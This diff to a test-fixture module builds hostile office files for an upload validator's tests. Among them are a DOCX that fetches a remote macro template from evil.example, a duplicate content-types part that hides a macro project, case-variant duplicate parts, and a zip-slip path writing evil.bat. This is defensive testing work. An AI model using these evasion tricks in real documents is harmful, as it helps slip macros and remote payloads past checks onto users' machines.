@@ -11,13 +11,25 @@ test client rewrites file names (``os.path.basename``) and ``SimpleUploadedFile`
 import functools
 import io
 import struct
+import warnings
 import zipfile
 from dataclasses import dataclass
 from urllib.parse import quote
 
 from pypdf import PdfReader, PdfWriter
 
-from tests.document_files import DOCUMENT, doc, docx, odt, pdf, pdf_file
+from tests.document_files import (
+    CONTENT_TYPES,
+    DOCUMENT,
+    PACKAGE_RELS,
+    WORD_MACRO_MAIN,
+    WORD_MAIN,
+    doc,
+    docx,
+    odt,
+    pdf,
+    pdf_file,
+)
 
 MIB = 1024 * 1024
 OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
@@ -273,6 +285,40 @@ def odt_with_script_in_embedded_object():
     )
 
 
+def odt_with_password():
+    """An ODT saved with a password: its content is encrypted, as the manifest's encryption data says."""
+    manifest = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
+        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
+        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="812">'
+        '<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'
+        '#sha256-1k" manifest:checksum="b5Z3mD2Vx4o="><manifest:algorithm manifest:algorithm-name='
+        '"http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="c2VjcmV0aXY="/>'
+        "</manifest:encryption-data></manifest:file-entry></manifest:manifest>"
+    )
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
+        archive.writestr("META-INF/manifest.xml", manifest)
+        archive.writestr("content.xml", bytes(range(256)) * 3)  # what encrypted content looks like: no XML
+    return buffer.getvalue()
+
+
+def docx_with_remote_template_in_capitals():
+    """A DOCX fetching a remote template from a relationships part whose name ends in capitals (".RELS")."""
+    return docx(
+        [
+            (
+                "word/_rels/settings.xml.RELS",
+                '<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
+                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                'Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>',
+            )
+        ]
+    )
+
+
 def odt_with_remote_image():
     """An ODT whose image is fetched from a remote server."""
     return odt(body='<draw:frame><draw:image xlink:href="https://tracker.example/pixel.png"/></draw:frame>')
@@ -365,6 +411,24 @@ def docx_zip_slip_windows():
 
 def docx_zip_slip_drive():
     return docx([("C:/Windows/Temp/evil.bat", b"calc.exe\r\n")])
+
+
+def docx_with_duplicate_part():
+    """A DOCX whose first [Content_Types].xml declares macros and whose second, the one zipfile reads, does not."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MACRO_MAIN))
+        archive.writestr("_rels/.rels", PACKAGE_RELS)
+        archive.writestr("word/document.xml", DOCUMENT)
+        archive.writestr("word/vbaProject.bin", OLE2_MAGIC + bytes(504))
+        with warnings.catch_warnings(action="ignore", category=UserWarning):  # zipfile's "Duplicate name"
+            archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MAIN))
+    return buffer.getvalue()
+
+
+def docx_with_part_twice_in_two_cases():
+    """A DOCX with a second document part under the same name in other capitals, the same part to Word."""
+    return docx([("WORD/DOCUMENT.XML", DOCUMENT.replace("A written submission", "Another text"))])
 
 
 def docx_with_nameless_entry():
@@ -463,6 +527,7 @@ HOSTILE_FILES = [
     Hostile("pdf-password", "report.pdf", pdf_with_password, "encrypted"),
     Hostile("docx-password", "report.docx", docx_with_password, "encrypted"),
     Hostile("doc-password", "report.doc", doc_with_password, "encrypted"),
+    Hostile("odt-password", "report.odt", odt_with_password, "encrypted"),
     # Refused: archives dangerous to open.
     Hostile("odt-bomb", "report.odt", odt_bomb, "archive_bomb"),
     Hostile("docx-bomb", "report.docx", docx_bomb, "archive_bomb"),
@@ -473,6 +538,8 @@ HOSTILE_FILES = [
     Hostile("docx-zip-slip-windows", "report.docx", docx_zip_slip_windows, "archive_paths"),
     Hostile("docx-zip-slip-drive", "report.docx", docx_zip_slip_drive, "archive_paths"),
     Hostile("docx-nameless-entry", "report.docx", docx_with_nameless_entry, "archive_paths"),
+    Hostile("docx-duplicate-part", "report.docx", docx_with_duplicate_part, "archive_paths"),
+    Hostile("docx-part-twice-in-two-cases", "report.docx", docx_with_part_twice_in_two_cases, "archive_paths"),
     # Refused: empty.
     Hostile("empty-pdf", "report.pdf", empty, "empty"),
 ]
@@ -484,6 +551,7 @@ FLAGGED_FILES = [
     Hostile("pdf-xfa", "report.pdf", pdf_with_xfa, kind="pdf"),
     Hostile("pdf-then-zip", "report.pdf", pdf_then_zip, kind="pdf"),
     Hostile("docx-remote-template", "report.docx", docx_with_remote_template, kind="docx"),
+    Hostile("docx-remote-template-capitals", "report.docx", docx_with_remote_template_in_capitals, kind="docx"),
     Hostile("docx-linked-image", "report.docx", docx_with_linked_image, kind="docx"),
     Hostile("docx-activex", "report.docx", docx_with_activex, kind="docx"),
     Hostile("odt-remote-image", "report.odt", odt_with_remote_image, kind="odt"),
@@ -494,6 +562,7 @@ FLAGS = {
     "pdf-xfa": {"pdf_xfa"},
     "pdf-then-zip": {"trailing_data"},
     "docx-remote-template": {"external_resource"},
+    "docx-remote-template-capitals": {"external_resource"},
     "docx-linked-image": {"external_resource"},
     "docx-activex": {"activex"},
     "odt-remote-image": {"external_resource"},
